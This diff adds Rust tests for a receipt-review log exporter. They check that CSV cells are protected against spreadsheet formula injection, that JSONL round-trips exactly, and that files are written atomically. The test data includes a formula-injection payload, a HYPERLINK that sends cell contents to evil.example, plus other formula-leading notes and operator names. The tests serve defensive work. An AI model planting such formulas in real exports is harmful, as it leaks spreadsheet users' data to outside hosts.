@@ -1,0 +1,462 @@
+//! Exporting the review log: CSV that is safe in a spreadsheet, faithful JSONL,
+//! and files that are written whole or not at all.
+
+use std::fs;
+use std::path::Path;
+
+use proptest::prelude::*;
+use receipt_review::review::{
+    self, Decision, DecisionRequest, ExportError, ExportFormat, LogEntry, safe_cell,
+};
+use receipt_review::storage::{Access, Database};
+use rusqlite::Connection;
+use serde_json::{Value, json};
+
+const SCHEMA: &str = include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/assets/schema.sql"));
+const T0: i64 = 1_795_947_330_123;
+
+const HEADER: [&str; 13] = [
+    "id",
+    "item",
+    "kind",
+    "decision",
+    "operator",
+    "decided_at",
+    "receipt_ids",
+    "note",
+    "reopens",
+    "state_before",
+    "state_after",
+    "updated_at_before",
+    "updated_at_after",
+];
+
+const HOSTILE_NOTES: [&str; 12] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "+1",
+    "-2",
+    "@x",
+    "\tx",
+    "\rx",
+    "she said \"hello\", then left",
+    "line one\nline two\r\nline three",
+    "a,b,,c",
+    "同じ内容が二回届きました。返信は一回で。",
+    "=1+1,\"=2\"\n@3",
+    "",
+];
+
+fn request(item: &str, decision: Decision, operator: &str, ids: &[i64]) -> DecisionRequest {
+    let (kind, _) = review::parse_item(item).unwrap();
+    DecisionRequest {
+        item: item.to_string(),
+        kind,
+        decision,
+        operator: operator.to_string(),
+        note: None,
+        receipt_ids: ids.to_vec(),
+        now_ms: T0,
+        expected_last: None,
+    }
+}
+
+/// A new receipts database at `path`, opened to write. What is written is
+/// not synced to disk (durability is not what these tests are about).
+fn create(path: &Path) -> Database {
+    let conn = Connection::open(path).unwrap();
+    conn.pragma_update(None, "synchronous", "OFF").unwrap();
+    conn.execute_batch(SCHEMA).unwrap();
+    drop(conn);
+    let db = Database::open(path, Access::PreferWrite).unwrap();
+    db.conn().pragma_update(None, "synchronous", "OFF").unwrap();
+    db
+}
+
+/// A database whose log holds every hostile note, a stuck decision with a
+/// state change, its undo, and an operator whose name looks like a formula.
+fn populated(path: &Path) -> Database {
+    let mut conn = create(path);
+    conn.conn()
+        .execute(
+            "INSERT INTO receipts (id, scope, digest, payload, state, created_at) \
+             VALUES (-5, 's', 'd', '{}', 'in_flight', '2026-11-29 09:00:00')",
+            [],
+        )
+        .unwrap();
+    for (i, note) in HOSTILE_NOTES.iter().enumerate() {
+        let id = 100 + i as i64;
+        let mut req = request(
+            &format!("dup:{id}"),
+            Decision::Duplicate,
+            "alice",
+            &[id, id + 1000],
+        );
+        req.note = Some(note.to_string());
+        req.now_ms = T0 + i as i64;
+        review::decide(&mut conn, &req).unwrap();
+    }
+    let mut req = request("stuck:-5", Decision::Failed, "-bob", &[]);
+    req.note = Some("@checked provider".into());
+    review::decide(&mut conn, &req).unwrap();
+    review::undo_last(&mut conn, "-bob", T0 + 60_000)
+        .unwrap()
+        .unwrap();
+    review::decide(
+        &mut conn,
+        &request("conflict:40", Decision::FollowUp, "=carol", &[]),
+    )
+    .unwrap();
+    conn
+}
+
+fn opt(v: &Option<String>) -> String {
+    v.clone().unwrap_or_default()
+}
+
+fn expected_cells(e: &LogEntry) -> Vec<String> {
+    let ids = e
+        .receipt_ids
+        .iter()
+        .map(|i| i.to_string())
+        .collect::<Vec<_>>()
+        .join(";");
+    [
+        e.id.to_string(),
+        e.item.clone(),
+        e.kind.as_str().to_string(),
+        e.decision.as_str().to_string(),
+        e.operator.clone(),
+        e.decided_at.clone(),
+        ids,
+        opt(&e.note),
+        e.reopens.map(|r| r.to_string()).unwrap_or_default(),
+        opt(&e.state_before),
+        opt(&e.state_after),
+        opt(&e.updated_at_before),
+        opt(&e.updated_at_after),
+    ]
+    .iter()
+    .map(|c| safe_cell(c).into_owned())
+    .collect()
+}
+
+fn parse_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(bytes);
+    let header = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_string)
+        .collect();
+    let rows = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    (header, rows)
+}
+
+fn starts_like_a_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_parses_back_to_the_same_values_with_formulas_neutralised() {
+    let dir = tempfile::tempdir().unwrap();
+    let conn = populated(&dir.path().join("r.db"));
+    let log = review::read_log(&conn).unwrap();
+    assert_eq!(log.len(), HOSTILE_NOTES.len() + 3);
+
+    let mut out = Vec::new();
+    let n = review::export(&conn, ExportFormat::Csv, &mut out).unwrap();
+    assert_eq!(n, log.len());
+    assert!(out.ends_with(b"\r\n"), "RFC 4180 line ends");
+
+    let (header, rows) = parse_csv(&out);
+    assert_eq!(header, HEADER);
+    assert_eq!(rows.len(), log.len());
+    for (row, entry) in rows.iter().zip(&log) {
+        assert_eq!(row, &expected_cells(entry));
+        for cell in row {
+            assert!(!starts_like_a_formula(cell), "{cell:?}");
+        }
+    }
+
+    // The hostile notes, exactly as a spreadsheet user will see them.
+    let notes: Vec<&str> = rows.iter().map(|r| r[7].as_str()).collect();
+    assert_eq!(
+        notes[..HOSTILE_NOTES.len()],
+        [
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "'+1",
+            "'-2",
+            "'@x",
+            "'\tx",
+            "'\rx",
+            "she said \"hello\", then left",
+            "line one\nline two\r\nline three",
+            "a,b,,c",
+            "同じ内容が二回届きました。返信は一回で。",
+            "'=1+1,\"=2\"\n@3",
+            "",
+        ]
+    );
+
+    // The stuck decision, its undo, the formula-like operators, the negative id.
+    let stuck = &rows[HOSTILE_NOTES.len()];
+    assert_eq!(stuck[1], "stuck:-5");
+    assert_eq!(stuck[3], "failed");
+    assert_eq!(stuck[4], "'-bob");
+    assert_eq!(stuck[6], "'-5");
+    assert_eq!(stuck[7], "'@checked provider");
+    assert_eq!(
+        (stuck[9].as_str(), stuck[10].as_str()),
+        ("in_flight", "failed")
+    );
+    let undo = &rows[HOSTILE_NOTES.len() + 1];
+    assert_eq!(undo[3], "reopened");
+    assert_eq!(undo[8], stuck[0]);
+    assert_eq!(
+        (undo[9].as_str(), undo[10].as_str()),
+        ("failed", "in_flight")
+    );
+    let conflict = &rows[HOSTILE_NOTES.len() + 2];
+    assert_eq!(conflict[4], "'=carol");
+    assert_eq!(rows[0][6], "100;1100");
+}
+
+#[test]
+fn jsonl_round_trips_exactly() {
+    let dir = tempfile::tempdir().unwrap();
+    let conn = populated(&dir.path().join("r.db"));
+    let log = review::read_log(&conn).unwrap();
+
+    let mut out = Vec::new();
+    review::export(&conn, ExportFormat::Jsonl, &mut out).unwrap();
+    let text = String::from_utf8(out).unwrap();
+    assert!(text.ends_with('\n'));
+    let lines: Vec<&str> = text.split_terminator('\n').collect();
+    assert_eq!(lines.len(), log.len());
+
+    for (line, entry) in lines.iter().zip(&log) {
+        let v: Value = serde_json::from_str(line).unwrap();
+        let obj = v.as_object().unwrap();
+        assert_eq!(
+            obj.keys().map(String::as_str).collect::<Vec<_>>().len(),
+            HEADER.len()
+        );
+        for key in HEADER {
+            assert!(obj.contains_key(key), "{key} in {line}");
+        }
+        assert_eq!(v["id"], json!(entry.id));
+        assert_eq!(v["item"], json!(entry.item));
+        assert_eq!(v["kind"], json!(entry.kind.as_str()));
+        assert_eq!(v["decision"], json!(entry.decision.as_str()));
+        assert_eq!(v["operator"], json!(entry.operator));
+        assert_eq!(v["decided_at"], json!(entry.decided_at));
+        assert_eq!(v["receipt_ids"], json!(entry.receipt_ids));
+        assert_eq!(v["note"], json!(entry.note));
+        assert_eq!(v["reopens"], json!(entry.reopens));
+        assert_eq!(v["state_before"], json!(entry.state_before));
+        assert_eq!(v["state_after"], json!(entry.state_after));
+    }
+
+    // Notes come back exactly (no spreadsheet quoting); an empty note is null.
+    let notes: Vec<Value> = lines
+        .iter()
+        .take(HOSTILE_NOTES.len())
+        .map(|l| serde_json::from_str::<Value>(l).unwrap()["note"].clone())
+        .collect();
+    for (note, original) in notes.iter().zip(HOSTILE_NOTES) {
+        if original.is_empty() {
+            assert_eq!(note, &Value::Null);
+        } else {
+            assert_eq!(note, &json!(original));
+        }
+    }
+    let first: Value = serde_json::from_str(lines[0]).unwrap();
+    assert_eq!(first["receipt_ids"], json!([100, 1100]));
+    let undo: Value = serde_json::from_str(lines[HOSTILE_NOTES.len() + 1]).unwrap();
+    assert_eq!(undo["decision"], "reopened");
+    assert!(undo["reopens"].is_i64());
+    let conflict: Value = serde_json::from_str(lines[HOSTILE_NOTES.len() + 2]).unwrap();
+    assert_eq!(conflict["note"], Value::Null);
+    assert_eq!(conflict["operator"], "=carol");
+}
+
+#[test]
+fn a_database_without_a_log_exports_a_header_alone() {
+    let dir = tempfile::tempdir().unwrap();
+    let conn = create(&dir.path().join("r.db"));
+    let mut out = Vec::new();
+    assert_eq!(
+        review::export(&conn, ExportFormat::Csv, &mut out).unwrap(),
+        0
+    );
+    assert_eq!(
+        String::from_utf8(out).unwrap(),
+        format!("{}\r\n", HEADER.join(","))
+    );
+    assert!(!review::log_exists(&conn).unwrap());
+}
+
+fn dir_entries(dir: &Path) -> Vec<String> {
+    let mut names: Vec<String> = fs::read_dir(dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    names
+}
+
+#[test]
+fn export_to_file_replaces_the_file_whole() {
+    let dir = tempfile::tempdir().unwrap();
+    let conn = populated(&dir.path().join("r.db"));
+    let out_dir = tempfile::tempdir().unwrap();
+    let target = out_dir.path().join("log.csv");
+    fs::write(&target, "old contents").unwrap();
+
+    let n = review::export_to_file(&conn, ExportFormat::Csv, &target).unwrap();
+    assert_eq!(n, HOSTILE_NOTES.len() + 3);
+    let mut expected = Vec::new();
+    review::export(&conn, ExportFormat::Csv, &mut expected).unwrap();
+    assert_eq!(fs::read(&target).unwrap(), expected);
+
+    let jsonl = out_dir.path().join("log.jsonl");
+    review::export_to_file(&conn, ExportFormat::Jsonl, &jsonl).unwrap();
+    assert_eq!(dir_entries(out_dir.path()), ["log.csv", "log.jsonl"]);
+}
+
+#[cfg(unix)]
+#[test]
+fn an_exported_file_gets_the_mode_of_any_new_file() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let dir = tempfile::tempdir().unwrap();
+    let conn = populated(&dir.path().join("r.db"));
+    let out_dir = tempfile::tempdir().unwrap();
+    let plain = out_dir.path().join("plain.txt");
+    fs::write(&plain, "x").unwrap();
+    let target = out_dir.path().join("log.csv");
+    review::export_to_file(&conn, ExportFormat::Csv, &target).unwrap();
+    // Not the owner-only mode of a temporary file: the user's umask decides.
+    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode(&target), mode(&plain));
+}
+
+#[test]
+fn export_into_a_folder_that_cannot_be_written_fails_and_leaves_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let conn = populated(&dir.path().join("r.db"));
+    let before = dir_entries(dir.path());
+
+    // A folder that does not exist.
+    let missing = dir.path().join("no-such-folder").join("log.csv");
+    let err = review::export_to_file(&conn, ExportFormat::Csv, &missing).unwrap_err();
+    assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");
+    assert!(err.to_string().contains("no-such-folder"), "{err}");
+    assert!(!missing.exists());
+
+    // A "folder" that is a file.
+    let file = dir.path().join("plain-file");
+    fs::write(&file, "x").unwrap();
+    let err =
+        review::export_to_file(&conn, ExportFormat::Jsonl, &file.join("log.jsonl")).unwrap_err();
+    assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");
+
+    // A target that is a folder: the rename fails, the temporary file goes.
+    let taken = dir.path().join("taken");
+    fs::create_dir(&taken).unwrap();
+    let err = review::export_to_file(&conn, ExportFormat::Csv, &taken).unwrap_err();
+    assert!(matches!(err, ExportError::Write { .. }), "{err:?}");
+    assert!(taken.is_dir());
+
+    let mut after = before.clone();
+    after.extend(["plain-file".to_string(), "taken".to_string()]);
+    after.sort();
+    assert_eq!(dir_entries(dir.path()), after);
+}
+
+#[cfg(unix)]
+#[test]
+fn export_into_a_read_only_folder_fails_and_leaves_nothing() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let dir = tempfile::tempdir().unwrap();
+    let conn = populated(&dir.path().join("r.db"));
+    let locked = dir.path().join("locked");
+    fs::create_dir(&locked).unwrap();
+    fs::set_permissions(&locked, fs::Permissions::from_mode(0o555)).unwrap();
+    // Permission bits do not bind a privileged user; then there is nothing to test.
+    let probe = locked.join("probe");
+    if fs::write(&probe, "x").is_ok() {
+        fs::remove_file(&probe).unwrap();
+        fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).unwrap();
+        return;
+    }
+    let err =
+        review::export_to_file(&conn, ExportFormat::Csv, &locked.join("log.csv")).unwrap_err();
+    assert!(matches!(err, ExportError::Folder { .. }), "{err:?}");
+    assert!(dir_entries(&locked).is_empty());
+    fs::set_permissions(&locked, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+fn note_strategy() -> impl Strategy<Value = String> {
+    let lead = prop_oneof![
+        Just(String::new()),
+        Just("=".to_string()),
+        Just("+".to_string()),
+        Just("-".to_string()),
+        Just("@".to_string()),
+        Just("\t".to_string()),
+        Just("\r".to_string()),
+        Just("'".to_string()),
+        Just("\"".to_string()),
+        Just("\n".to_string()),
+    ];
+    (lead, any::<String>(), "[=+@\\-\t\r\n\",' a-zあ-ん]{0,12}")
+        .prop_map(|(lead, any, structured)| format!("{lead}{structured}{any}"))
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(200))]
+
+    #[test]
+    fn any_note_round_trips_through_csv_and_never_starts_a_formula(
+        note in note_strategy(),
+        operator in "[-=+@a-z]{1,8}",
+    ) {
+        let dir = tempfile::tempdir().unwrap();
+        let mut conn = create(&dir.path().join("r.db"));
+        let mut req = request("dup:1", Decision::Distinct, &operator, &[1, 2]);
+        req.note = Some(note.clone());
+        review::decide(&mut conn, &req).unwrap();
+
+        let mut out = Vec::new();
+        review::export(&conn, ExportFormat::Csv, &mut out).unwrap();
+        let (header, rows) = parse_csv(&out);
+        prop_assert_eq!(header, HEADER);
+        prop_assert_eq!(rows.len(), 1);
+        let cell = &rows[0][7];
+        if starts_like_a_formula(note.trim_start_matches('\'')) {
+            prop_assert_eq!(cell, &format!("'{note}"));
+        } else {
+            prop_assert_eq!(cell, &note);
+        }
+        prop_assert_eq!(review::unquote_cell(cell), note.as_str());
+        for cell in &rows[0] {
+            prop_assert!(!starts_like_a_formula(cell), "{:?}", cell);
+        }
+
+        let mut out = Vec::new();
+        review::export(&conn, ExportFormat::Jsonl, &mut out).unwrap();
+        let v: Value = serde_json::from_slice(&out).unwrap();
+        if note.is_empty() {
+            prop_assert_eq!(&v["note"], &Value::Null);
+        } else {
+            prop_assert_eq!(&v["note"], &json!(note));
+        }
+    }
+}
